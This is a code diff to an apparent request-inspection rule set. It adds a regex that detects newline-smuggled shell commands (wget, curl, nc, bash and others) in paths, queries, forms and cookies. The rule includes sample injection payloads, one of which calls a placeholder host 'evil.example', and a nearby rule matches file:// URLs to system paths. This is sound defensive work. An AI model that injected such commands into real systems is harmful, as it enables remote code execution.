@@ -79,6 +79,22 @@ export const embeddedCodeRules: readonly Rule[] = [
     attacks: [],
     benign: ['PATH', 'preload', 'LANG'],
   },
+  // Behind the one word that was asked for, a line of a shell.
+  pattern(
+    'rce/next-line',
+    /^[\w.:-]{0,40}[\r\n]{1,4}\s{0,4}(?:cat|ls|wget|curl|nc|ping|touch|rm|chmod|bash|sh|telnetd|uname|tftp|busybox)\s{1,4}(?:[/~-]|https?:|\d{1,3}\.)[^\r\n]{0,200}$/,
+    {
+      score: 5,
+      quotable: true,
+      atStart: true,
+      chars: CHAR.newline,
+      words: WORD.shell,
+      places: ['path', 'query', 'form', 'cookie'],
+      unlessNamed: /text|note|comment|message|content|body|code|script|snippet|steps?$/,
+      attacks: ['\ncat /x', '127.0.0.1\nwget http://evil.example/x', 'x\r\nping -c 1 192.0.2.1'],
+      benign: ['shopping:\ncat food', 'one two\nls -la\nthree', 'a\nping pong'],
+    },
+  ),
   // A file of the server as a part of a query to a program of its own.
   pattern('traversal/inner-file-url', /[=\s"'(,]file:\/{1,3}(?:etc|proc|root|home|windows|winnt|c:)\//, {
     score: 5,
